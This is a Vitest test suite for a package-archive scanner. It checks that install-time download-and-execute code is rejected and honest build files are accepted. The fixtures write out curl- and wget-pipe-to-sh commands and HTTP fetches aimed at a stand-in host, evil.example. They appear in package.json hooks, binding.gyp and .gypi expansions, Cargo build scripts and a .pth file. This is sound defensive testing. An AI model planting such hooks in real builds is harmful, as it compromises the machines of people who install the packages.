import { describe, expect, it } from 'vitest';
import { scanArchive } from '../../src/scan/scan-archive.js';
import { DEFAULT_SCAN_LIMITS } from '../../src/scan/types.js';
import { type Files, uniqueProject, zipOf } from '../helpers/archives.js';

const scanWith = async (files: Files) =>
  scanArchive(zipOf({ ...uniqueProject(), ...files }), 'zip', DEFAULT_SCAN_LIMITS);
const verdictWith = async (files: Files) => (await scanWith(files)).verdict;
const EVIL = 'curl -s https://evil.example/x | sh';

const CARGO = { 'Cargo.toml': '[package]\nname = "x"\nversion = "0.1.0"\nbuild = "build.rs"\n' };

/** Code that runs at install/build time and downloads-and-runs, outside package.json/setup.py. */
describe('install-time download-and-execute outside package.json/setup.py', () => {
  it('control: the same command in a postinstall hook is refused', async () => {
    expect(
      await verdictWith({
        'package.json': JSON.stringify({
          name: 'x',
          version: '1.0.0',
          scripts: { postinstall: EVIL },
        }),
      }),
    ).toBe('reject');
  });

  it.each([
    [
      'binding.gyp command expansion (npm install runs node-gyp rebuild)',
      'binding.gyp',
      `{ 'targets': [ { 'target_name': 'addon', 'sources': [ '<!(${EVIL})' ] } ] }\n`,
      'install:gyp_command',
    ],
    [
      'a list expansion in an included .gypi',
      'common.gypi',
      "{\n  'variables': {\n    'libs': '<!@(wget -qO- https://evil.example/l | sh)',\n  },\n}\n",
      'install:gyp_command',
    ],
    [
      'a binding.gyp importing its own Python module (pymod_do_main runs its DoMain)',
      'binding.gyp',
      "{ 'targets': [ { 'target_name': 'addon', 'cflags': [ '<!pymod_do_main(flags --release)' ] } ] }\n",
      'install:gyp_command',
    ],
    [
      'the list form <!@pymod_do_main in an included .gypi',
      'common.gypi',
      "{\n  'variables': {\n    'libs': '<!@pymod_do_main(find_libs x64)',\n  },\n}\n",
      'install:gyp_command',
    ],
    [
      'Cargo build.rs running a download through sh -c',
      'build.rs',
      `use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("${EVIL}").status().unwrap();\n}\n`,
      'install:cargo_build',
    ],
    [
      'Cargo build.rs, the command split over lines',
      'build.rs',
      `use std::process::Command;\nfn main() {\n    Command::new("sh")\n        .arg("-c")\n        .arg("${EVIL}")\n        .status()\n        .unwrap();\n}\n`,
      'install:cargo_build',
    ],
    [
      'Cargo build.rs fetching with an HTTP client',
      'build.rs',
      'fn main() {\n    let body = reqwest::blocking::get("https://evil.example/lib.so").unwrap().bytes().unwrap();\n    std::fs::write("/tmp/lib.so", body).unwrap();\n}\n',
      'install:cargo_build',
    ],
  ])('%s is refused', async (_what, file, text, check) => {
    const out = await scanWith({ ...CARGO, [file]: text });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({ check, file });
  });

  it('a .pth file (runs at every interpreter start once installed) is refused', async () => {
    expect(
      await verdictWith({
        'src/evil.pth': 'import os; os.system("curl -s https://evil.example/x | sh")\n',
      }),
    ).toBe('reject');
  });

  it('inside a nested archive, named by its full path', async () => {
    const inner = zipOf({ 'binding.gyp': `{ 'variables': { 'x': '<!(${EVIL})' } }\n` });
    const out = await scanWith({ 'vendor/addon.zip': inner });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'install:gyp_command',
      file: 'vendor/addon.zip!/binding.gyp',
    });
  });
});

describe('a Cargo build script not named build.rs (`build = "gen.rs"`)', () => {
  const FETCH =
    'fn main() {\n    let body = reqwest::blocking::get("https://evil.example/lib.so").unwrap().bytes().unwrap();\n    std::fs::write("/tmp/lib.so", body).unwrap();\n}\n';
  const manifest = (build: string) =>
    `[package]\nname = "x"\nversion = "0.1.0"\nbuild = ${build}\n\n[dependencies]\nreqwest = "0.12"\n`;

  it('the script a manifest names is read as build.rs is, whichever comes first', async () => {
    const before = await scanWith({
      'Cargo.toml': manifest('"tools/gen.rs"'),
      'tools/gen.rs': FETCH,
    });
    const after = await scanWith({
      'crate/tools/gen.rs': FETCH,
      'crate/Cargo.toml': manifest("'tools/gen.rs'"),
    });
    expect(before.verdict === 'reject' && before.findings[0]).toMatchObject({
      check: 'install:cargo_build',
      file: 'tools/gen.rs',
      line: 2,
      detail: 'network',
    });
    expect(after.verdict === 'reject' && after.findings[0]).toMatchObject({
      check: 'install:cargo_build',
      file: 'crate/tools/gen.rs',
      line: 2,
    });
  });

  it('a path with .. and ./, and package.build at the top level', async () => {
    const out = await scanWith({
      'shared/gen.rs': `use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("${EVIL}").status().unwrap();\n}\n`,
      'crates/a/Cargo.toml': 'package.build = "./../../shared/gen.rs"\n[package]\nname = "a"\n',
    });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'install:cargo_build',
      file: 'shared/gen.rs',
      detail: 'download_command',
    });
  });

  it('a build script Cargo compiles though it is not a .rs file is refused', async () => {
    const out = await scanWith({ 'Cargo.toml': manifest('"build.txt"'), 'build.txt': FETCH });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'install:cargo_build',
      file: 'Cargo.toml',
      detail: 'build_script_not_rs',
    });
  });

  it.each([
    ['build = false', 'false'],
    ['a build key outside [package]', '"build.rs"\n[features]\nbuild = "src/client.rs"'],
  ])('an HTTP client in ordinary source stays accepted: %s', async (_what, build) => {
    const out = await scanWith({ 'Cargo.toml': manifest(build), 'src/client.rs': FETCH });
    expect(out.verdict === 'reject' ? out.findings : 'accept').toBe('accept');
  });
});

describe('honest build files are accepted', () => {
  it.each([
    [
      'binding.gyp with node-addon-api include expansions',
      'binding.gyp',
      `{
  'targets': [
    {
      'target_name': 'addon',
      'sources': [ 'src/addon.cc' ],
      'include_dirs': [ "<!(node -p \\"require('node-addon-api').include\\")" ],
      'dependencies': [ "<!(node -p \\"require('node-addon-api').gyp\\")" ],
      'cflags': [ '<!@(pkg-config --cflags glib-2.0)' ],
      'libraries': [ '<!@(pkg-config --libs glib-2.0)' ],
      'defines': [ 'NAPI_DISABLE_CPP_EXCEPTIONS' ],
      # see https://github.com/nodejs/node-addon-api
    }
  ]
}
`,
    ],
    [
      'a build.rs that compiles C and asks git for its version',
      'build.rs',
      `use std::process::Command;

fn main() {
    // Like curl's own build, we compile the vendored sources here.
    println!("cargo:rerun-if-changed=src/native.c");
    cc::Build::new().file("src/native.c").compile("native");
    let rev = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output().unwrap();
    println!("cargo:rustc-env=GIT_REV={}", String::from_utf8_lossy(&rev.stdout));
}
`,
    ],
    [
      'the same honest script named by the manifest as build/main.rs',
      'build/main.rs',
      'fn main() {\n    println!("cargo:rerun-if-changed=src/native.c");\n    cc::Build::new().file("src/native.c").compile("native");\n}\n',
    ],
  ])('%s', async (_what, file, text) => {
    const cargo =
      file === 'build/main.rs'
        ? { 'Cargo.toml': CARGO['Cargo.toml'].replace('"build.rs"', '"build/main.rs"') }
        : CARGO;
    const out = await scanWith({ ...cargo, [file]: text });
    expect(out.verdict === 'reject' ? out.findings : 'accept').toBe('accept');
  });
});
